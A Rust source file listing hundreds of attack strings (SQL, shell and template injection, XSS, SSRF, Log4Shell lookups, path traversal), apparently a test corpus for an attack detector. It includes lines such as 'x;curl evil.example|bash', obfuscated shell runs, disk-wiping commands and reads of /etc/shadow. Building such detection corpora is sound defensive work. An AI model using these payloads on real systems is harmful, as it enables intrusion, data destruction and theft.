//! Attacks that look like what people and programs send.

use super::{Part, Texts};

/// What they are found by, the part, the field's name, and the texts.
#[rustfmt::skip]
pub(super) const ATTACKS: &[Texts] = &[
    ("sqli", Part::Query, "id", &[
        "a'+sleep(3)+'b", "'-(select 1)-'", "1'-sleep(3)-'", "'%'", "'&'0", "'<'1", "'+'", "'^'1", "'*(sleep(5))*'", "'||pg_sleep(5)||'",
        "x'/(case when 1 then 1 end)/'y", "'-benchmark(1000,md5(1))-'", "'|(select 1)|'", "a'^(ascii(substr(user(),1,1)))^'", "'+@@version+'",
        "'-0-'", "1'*1*'1", "'+(select password from users)+'", "\"-sleep(1)-\"", "'>>(select 1)>>'", "a'-user()-'", "'='", "'*'", "'|'1", "'-'",
    ]),
    ("sqli", Part::Query, "id", &[
        "7 and false", "5||1", "not 1", "1 div 1", "2 or 1", "1&&1", "1 regexp 1", "id=id", "1 xor 1", "1 rlike 2", "3 and true", "1 or not 0",
        "5 and null", "1 like 1", "1 && 0", "name=name", "not (1)", "1 mod 2", "7 and 1", "1 or id",
    ]),
    ("sqli", Part::Query, "user_id", &[
        "2 or 1", "not 0", "uid=uid",
    ]),
    ("sqli", Part::Query, "id", &[
        "' or name collate nocase = 'admin", "' or name GLOB 'a*", "' or name similar to 'a%", "' or name ~* '^a", "' or name sounds like 'bob",
        "' and name ilike 'a%", "' or x in ('a')", "' or id between 1 and 9", "' or name is not distinct from 'a", "' and name not like 'a%",
        "' or a.b^='x", "' or name regexp '^a", "' limit 1", "' order by 3", "' order by name --", "' group by 1 having", "x' where id=1",
        "' into outfile '/tmp/a", "' for update", "' offset 1", "') order by 1", "SELECT-id-1.FROM`test`",
        "' UNION SELECT username || ':' || password FROM users", "1 union select a+1,b from c", "1 union all select pass as x from users",
        "1 union select user.name from users", "' or username like totpSecret escape 'x';", "' || pkg.proc('x') || '",
    ]),
    ("sqli", Part::Query, "id", &[
        "1; show tables", "1; prepare p from 'select 1'; execute p", "1; vacuum; analyze users",
        "0); show warnings; set @q=0x53454c454354; prepare stmt from @q; execute stmt;#", "1;vacuum", "1; show databases",
        "1; set global general_log=1", "1; flush privileges", "1; lock tables a write", "1; handler t open", "1'; rename table a to b--",
        "1; alter system set x=1", "1; create role x", "1; drop schema public cascade", "1; begin; rollback", "1; dbcc checkdb", "1; kill 5",
        "1; explain select 1", "1; pragma table_info(users)", "1; detach database x", "1; call p(1)", "1; select name from users", "1; truncate logs",
        "1; optimize table t", "1; reset master", "1; comment on table a is null", "1;copy t to stdout", "5; values (1)", "1; use mysql",
        "1; revoke all on a from b", "1; declare x int", "1; commit;", "1; install plugin x soname y", "1); savepoint a",
        "1; if(1=1) waitfor delay 5", "1; merge a",
    ]),
    ("sqli", Part::Query, "q", &[
        "case when 1=1 then 1 else 0 end", "(case when (1=1) then 1 end)", "case when user like 'a%' then 1 end", "case 1 when 1 then 2 end",
    ]),
    ("sqli", Part::Body, "query", &[
        "' or 1=1--", "1' or '1'='1", "x'; drop table users--", "1 union select 1,2", "select load_file('/etc/passwd') from t where a",
        "select * from t into outfile '/tmp/x' where a", "select pg_sleep(9) from t where a = b", "1) or (1=1",
    ]),
    ("sqli", Part::Body, "password", &[
        "' or '1'='1", "' or 1=1#", "x' or 1=1 --", "'or'1'='1", "' union select 1,2--", "admin' --", "' || '1'='1",
    ]),
    ("command", Part::Query, "ip", &[
        "1.1.1.1;chown nobody /srv", "1.1.1.1;mkfs.ext4 /dev/sda", "1.1.1.1;killall node", "1.1.1.1;useradd x",
        "1.1.1.1;git clone http://evil.example/x", "8.8.8.8;find . -exec id \\;", "8.8.8.8;compgen -c", "8.8.8.8;yes>/dev/null", "1.1.1.1;halt",
        "8.8.8.8;reboot", "1.1.1.1|usermod -aG sudo x", "1.1.1.1&&groupadd x", "1.1.1.1||sysctl -a", "127.0.0.1;dmesg", "127.0.0.1;lsblk", "a;mktemp",
        "x;umount /mnt", "1;iptables -F", "1.1.1.1;crontab -r", "1.1.1.1;pkill -9 nginx", "1.1.1.1;rmdir x", "1.1.1.1;echo hello", "1.1.1.1;history",
        "1.1.1.1;printf a", "8.8.8.8;kill -9 1", "8.8.8.8&tasklist", "8.8.8.8|systeminfo", "8.8.8.8&net.exe user", "8.8.8.8;shred x",
        "8.8.8.8;time id", "8.8.8.8;jobs", "10.0.0.1;top -b", "10.0.0.1|sort x", "10.0.0.1;tar -czf a b", "10.0.0.1\nlast", "10.0.0.1;python -V",
        "x;perl -v", "x;su - root", "x;dd if=a", "x;awk 1 a", "x;sed -n 1p a", "10.0.0.1;vi a", "host.example;chattr +i a", "a;base64 x",
        "foo|xargs ls", "8.8.8.8;  chmod 777 x", "8.8.8.8 ; modprobe x", "8.8.8.8';busybox ls;'", "8.8.8.8\");dmesg;#", "1.1.1.1;id>/tmp/x",
        "x;ls>out.txt", "x;anything 2>&1", "x|foo>/var/www/a",
    ]),
    ("command", Part::Query, "ip", &[
        "1.1.1.1;$BASH -c id", "1.1.1.1;$0<<<id", "1.1.1.1;$'id'", "1.1.1.1;c${Z}at /etc/hosts", "1.1.1.1 & %SystemRoot%\\System32\\whoami.exe",
        "1.1.1.1 & set x=who&& call %x%ami", "8.8.8.8;$0 -c whoami", "a; sh$XX -c whoami", ";$'\\151\\144'", "8.8.8.8;${PATH:0:1}bin${PATH:0:1}id",
        "whoami;0'0'", "x;${HOME:0:1}bin", "x;$SHELL -c ls", "x;${SHELL} -c ls", "x;w${abc}hoami", "x;ca${x}t /etc/passwd", "x;$'\\x69\\x64'",
        "x;${LS_COLORS:10:1}", "x;${PWD%%x}", "x;${!x}", "x & cmd /c dir", "x & %COMSPEC% /c dir", "x & c:\\windows\\system32\\ipconfig.exe",
        "x|%PATH:~0,1%", "x & call %a%", "x & set a=b& echo %a%", "echo aWQ=|base64 -d|sh", "x;curl evil.example|bash", "x;a<<<b", "ifconfig;x",
        "x|sudo sh", "x;${IFS#?}", "x;${HOME:0:1}bin)", "x;$\"id\" ;w'ho'ami",
    ]),
    ("command", Part::Query, "ip", &[
        "1.1.1.1;(while :;do id;break;done)", "1.1.1.1;for((;;));do id;break;done", "1.1.1.1 && if [ 1 ];then id;fi", "1.1.1.1;function f { id;};f",
        "8.8.8.8;while true; do ls;break;done", "x;until false; do id; done", "x;for i in 1 2; do id; done", "x;case x in x) id;; esac",
        "x;f(){ id;};f", "x;{ id;}", "x;[ 1 ] && id", "x;[[ 1 ]] && id", "x|while read l; do echo $l; done", "x;select i in a; do id; done",
        "while :; do id; done", "if true; then id; fi", "x;time { id;}", "x;if id;then ls;fi", "x;function f() { id; }; f", "$(if true; then id; fi)",
    ]),
    ("template", Part::Body, "name", &[
        "${{<%[%'\"}}%\\.", "{{7**7}}", "@System.Diagnostics.Process.Start(\"id\")", "{!7*7}", "{{7|add:7}}", "{{=7*7}}", "{{{7*7}}}", "${{7*7}}",
        "#{7*7}", "%{7*7}", "[=7*7]", "{{-7*7}}", "{{ 7 // 2 }}", "{{'7'*7}}", "{{7<<2}}", "{{(7)*7}}", "@(7*7)", "<%= 7 ** 7 %>", "{@7*7}", "{=7*7}",
        "<#=7*7#>", "[[${7*7}]]", "{{7%2}}", "{{7^7}}", "{{7==7}}", "@Html.Raw(\"x\")", "@(System.IO.File.ReadAllText(\"x\"))",
        "@Environment.GetEnvironmentVariable(\"x\")", "@{ var x = 1; }", "{{7*7}}${7*7}<%= 7*7 %>", "{{x.constructor(\"return 1\")}}",
        "{{#with \"s\" as |string|}}{{/with}}",
    ]),
    ("template", Part::Body, "html", &[
        "{{7*7}}", "{{config}}", "{{ ''.__class__ }}", "{{request.application}}", "{% debug %}", "{{ self._x }}", "{{ x|attr(\"y\") }}",
        "{{lookup x \"constructor\"}}", "{{ cycler.__init__ }}", "{{ system('id') }}", "<#assign x=\"freemarker.template.utility.Execute\"?new()>",
    ]),
    ("code", Part::Query, "expr", &[
        "global['process']['binding']('spawn_sync')", "module.constructor._load('fs')", "globalThis.process.mainModule", "process['binding']('fs')",
        "this.constructor.constructor('return process')()", "Function('return process')()", "require('fs').readFileSync('/x')",
        "import('child_process')", "import('fs').readFile", "require(`child_process`)", "process.dlopen(x)", "global.process.exit()",
        "[].constructor.constructor('x')", "root['process']", "require.main.require('fs')", "module._load('vm')", "process?.mainModule",
        "execSync('x')", "spawn_sync", "Deno.run({cmd:[]})", "Bun.spawn(['id'])", "vm.runInThisContext('x')", "require('node:child_process')",
        "require('os').userInfo()",
    ]),
    ("xss", Part::Query, "q", &[
        "UEhOamNtbHdkRDVoYkdWeWRDZ3hLVHd2YzJOeWFYQjBQZz09",
    ]),
    ("template", Part::Query, "q", &[
        "e3s3Kjd9fQ==",
    ]),
    ("command", Part::Header, "x-api-version", &[
        "${env:AWS_SECRET}", "${jndi:ldap://x/a}", "${sys:user.name}", "${java:os}", "${date:yyyy}",
    ]),
    ("command", Part::Body, "value", &[
        "${jndi:ldap://x/a}", "${${lower:j}ndi:rmi://x}", "${${::-j}${::-n}di:ldap://x}", "${env:X:-j}ndi:ldap://x", "${lower:j}${lower:n}di",
        "${a:-j}${b:-n}di",
    ]),
    ("command", Part::Query, "ip", &[
        "8.8.8.8;anything", "8.8.8.8|foo bar", "8.8.8.8&&./x", "8.8.8.8\n/opt/x", "8.8.8.8`foo`", "$(foo)", "8.8.8.8;$x", "x||y z", "\\``command`",
        "8.8.8.8 | foo", "8.8.8.8;!!", "8.8.8.8${x}y", "host.example;foo",
    ]),
    ("command", Part::Query, "host", &[
        "example.com;foo", "example.com|bar -x", "`foo`",
    ]),
    ("sqli", Part::Query, "id", &[
        "1 or 1", "id or id", "1 is not null", "1 in (1)", "1 between 1 and 2", "~1", "!1", "1>0", "1<2", "-1 or 1", "1 and 0", "1^1", "x is null",
        "1 is true", "'-'x",
    ]),
    ("sqli", Part::Query, "id", &[
        "' or x @> '{}", "' or x->'a'='b", "' or x ~ 'a", "1 union select 1 from pg_shadow", "1 and (select 1 from msysobjects)", "1 or csvread('x')",
        "1 or load_extension('x')", "x' or name !~* 'a", "1 and exists(select 1 from sys.objects)", "' or x ?| array['a']",
        "'||httpuritype('x').getclob()||'",
    ]),
    ("template", Part::Body, "name", &[
        "{{['id']|map('system')|join}}", "{{printf \"%s\" \"x\"}}", "{{.System \"id\"}}", "{!! phpinfo() !!}", "{{7|abs}}",
        "{{'id'|filter('system')}}", "{{ \"x\" | upper }}", "{{ items|sort(\"system\") }}", "{php}echo 1;{/php}", "{$smarty.version}",
    ]),
    ("template", Part::Body, "message", &[
        "{{['id']|map('system')}}", "{{ config.items() }}", "<#assign x=\"y\"?new()>", "{{ cycler.__init__.__globals__ }}", "{{7*7}}",
    ]),
    ("command", Part::Query, "q", &[
        "x; awk 'BEGIN{system(\"id\")}'", "grep & whoami", "x & awk -f /tmp/a", "Docker; kubectl get pods -A", "Linux; useradd bob", "a; chown nobody file",
        "Merge; git clone http://evil.example/x", "x;tar cf - /etc", "foo; sed -n 1p /etc/hosts", "x; perl -e 1", "x;time id", "a;getcap -r /", "; `ls -la` ;",
        "timeout 5 id", "flock -u / whoami", "x;gcc x.c", "cat /etc/passwd", "less<etc/passwd",
        "| grep root /etc/passwd", "x;awk -F : 1 /etc/shadow",
    ]),
    ("sqli", Part::Body, "text", &[
        "x', (select a from b), 'you are the", "this is nice' or 1=1 --", "that is it'; select a from b --", "1 union select the, is from users where",
        "what is this' and sleep(5) and 'a'='a", "the is', (select password from users limit 1)) -- x",
    ]),
    ("sqli", Part::Query, "id", &[
        "1' regexp '^a", "'='or'", "'=''#", "iif(1=1,1,0)", "version()", "id>0", "1; refresh materialized view v", "1; purge binary logs", "1; discard all",
        "1'; select name from users where id=1", "x y z'; select 'a' into outfile '/tmp/x'", "1;copy t to program 'id'",
    ]),
    ("xss", Part::Body, "comment", &[
        "x onmouseover=alert(1) the is it", "alert(1)//the is it", "alert(1) /* the is it", "the is ';alert(1)//", "you are \" onmouseover=\"alert(1)", "what is this <b onclick=alert(1)>?", "`-alert(1)-` is the", "this is ${alert(1)} it",
    ]),
    ("xss", Part::Body, "html", &[
        "<svg><use href=\"//evil.example/x.svg#a\"/></svg>", "<svg><use href=\"data:image/svg+xml;base64,PHN2Zz4=#x\"/></svg>", "<math><base href=//evil.example></math>",
        "<svg><animate attributeName=href values=javascript:1 />", "<p style=\"width:expression(alert(1))\">", "<div style=x:expression(1)>",
    ]),
    ("xss", Part::Query, "q", &[
        "x onmouseover=alert(1) the is it", "alert(1)//the is it", "-alert(1)-// the is it", "j a v a script : alert(1)", "java s c r i p t:alert(1)", "javascript: var x=1;alert(x)", "javascript:throw onerror=alert,1", "vbscript:msgbox(1)",
    ]),
    ("code", Part::Body, "stack", &[
        "throw new Exception('id'.execute().text)", "runtime.clonetransformer", "${T(java.lang.Runtime).getRuntime().exec('id')}", "java.lang.Runtime",
        "at java.lang.Runtime.exec(\"id\")", "x\njava.lang.Runtime.getRuntime().exec('id')\nat a.B.c(B.java:1)",
    ]),
    ("ssrf", Part::Body, "url", &[
        "http://consul.service.consul:8500/", "ldap://127.0.0.1:389/x", "sftp://evil.example:11111/", "ldaps://evil.example/", "gopher://x/", "http://127。0。0。1/",
    ]),
    ("ssrf", Part::Body, "ldap_url", &[
        "ldap://evil.example:6379/x", "ldap://evil.example/%0astats", "ldap://169.254.169.254/x", "gopher://evil.example/",
    ]),
    ("ldap", Part::Body, "ldap_filter", &[
        "*)(uid=*))(|(uid=*", "(a=b))(|(c=d)",
    ]),
    ("template", Part::Query, "name", &[
        "{{'a'*3}}", "{{ [1,2]|sum }}", "{% print(7) %}", "<%= ENV %>", "{{7.0/2}}", "{{lipsum}}", "{{cycler}}", "${applicationScope}", "$!{7*7}", "${.data_model}",
        "{% if 7*7 == 49 %}x{% endif %}",
    ]),
    ("traversal", Part::Query, "file", &[
        "/sys/class/net/eth0/address", "/dev/fd/0", "/run/secrets/db_password", "~root/.bashrc", "/opt/app/config/secrets.yml", "/tmp/sess_abc123",
        "META-INF/MANIFEST.MF", "classpath:application.yml", "../config/database.yml", "{\"kid\":\"../../../../dev/null\"}",
    ]),
    ("code", Part::Query, "expr", &[
        "process.exit(1)", "(function(){return process})()", "global.require(\"x\")", "process.kill(process.pid)", "root.process.env",
    ]),
];
